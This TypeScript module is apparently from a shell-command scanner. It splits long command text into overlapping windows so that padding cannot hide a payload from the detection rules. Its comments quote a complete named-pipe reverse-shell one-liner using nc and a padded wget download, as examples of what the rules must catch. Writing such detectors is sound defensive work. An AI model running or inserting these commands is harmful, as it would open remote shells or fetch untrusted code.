/**
 * The parts of a command text the rules run over. A rule sees at most
 * `cap` characters at a time; a long command line is not cut at `cap` but
 * split into its simple commands, which are packed into windows of at most
 * `cap` characters, so padding in front of a payload (`: AAAA...; wget ...`,
 * `true;` a thousand times) does not hide it.
 */
import {wholeEnd} from '../util/slice-whole.js'
import {splitSimpleCommands} from '../logs/simple-commands.js'

/** One span `[start, end)` of the text that the rules run over as a whole. */
export interface MatchWindow {
  readonly start: number
  readonly end: number
}

/** What {@link matchWindows} chose, and what it left out. */
export interface MatchWindows {
  /** Disjoint, in text order, each at most `cap` characters. */
  readonly windows: MatchWindow[]
  /** Simple commands longer than `cap`, of which only the first `cap` characters are seen. */
  readonly cutCommands: number
  /** Characters of those commands the rules do not see. */
  readonly unexamined: number
  /** Simple commands found (0 when the text fits in one window and was not split). */
  readonly simpleCommands: number
  /** Characters the splitter read (0 when the text fits in one window). */
  readonly splitterExamined: number
}

/**
 * The windows of `text` for rules that see at most `cap` characters at once.
 *
 * - A text of at most `cap` characters is one window, the whole text, as
 *   rules always saw it (so a rule may span `;` and `|`, e.g.
 *   `mkfifo /tmp/f; cat /tmp/f|/bin/sh -i 2>&1|nc x 4444`).
 * - A longer text is split into simple commands
 *   ({@link splitSimpleCommands}). A window holds as many consecutive whole
 *   simple commands as fit in `cap`; the next one starts in the second half
 *   of it (at the first command starting at or after its end minus
 *   `cap / 2`, or later when the command that did not fit would not fit
 *   from there either). So windows overlap, and any run of whole simple
 *   commands spanning at most `cap / 2` characters lies whole in a window:
 *   padding, however precise, cannot put a window boundary inside a
 *   payload of up to 2 KiB.
 * - A simple command longer than `cap` is a window of its own, cut to its
 *   first `cap` characters (never inside a surrogate pair): the cap applies
 *   per simple command, not per line.
 *
 * Work stays linear in the length of the text: window starts move on by more
 * than `cap / 2` every two windows, so there are at most `4 * length / cap + 2`
 * windows of whole commands (plus one per cut command, each `cap` long) and
 * a character lies in at most six of them (two where the commands are short).
 *
 * @example
 * ```ts
 * matchWindows(`: ${'A'.repeat(4100)}; wget http://x/y.sh`, 4096)
 * // {windows: [{start: 0, end: 4096}, {start: 4104, end: 4122}], cutCommands: 1, unexamined: 6, ...}
 * ```
 */
export function matchWindows(text: string, cap: number): MatchWindows {
  if (!(Number.isInteger(cap) && cap > 1)) throw new RangeError(`expected the window size to be an integer above 1, got ${cap}`)
  if (text.length <= cap) return {cutCommands: 0, simpleCommands: 0, splitterExamined: 0, unexamined: 0, windows: [{end: text.length, start: 0}]}
  const {commands, examined} = splitSimpleCommands(text)
  const half = Math.floor(cap / 2)
  const windows: MatchWindow[] = []
  let cutCommands = 0
  let unexamined = 0
  let at = 0
  while (at < commands.length) {
    const first = commands[at]
    if (first.end - first.start > cap) {
      const end = wholeEnd(text, first.start + cap)
      windows.push({end, start: first.start})
      cutCommands++
      unexamined += first.end - end
      at++
      continue
    }

    let last = at
    while (last + 1 < commands.length && commands[last + 1].end - first.start <= cap) last++
    windows.push({end: commands[last].end, start: first.start})
    if (last + 1 === commands.length) break
    const next = commands[last + 1]
    if (next.end - next.start > cap) {
      at = last + 1
      continue
    }

    // the next window starts in this one's second half, but no earlier than where `next` fits
    const from = Math.max(commands[last].end - half, next.end - cap)
    at++
    while (commands[at].start < from) at++
  }

  return {cutCommands, simpleCommands: commands.length, splitterExamined: examined, unexamined, windows}
}
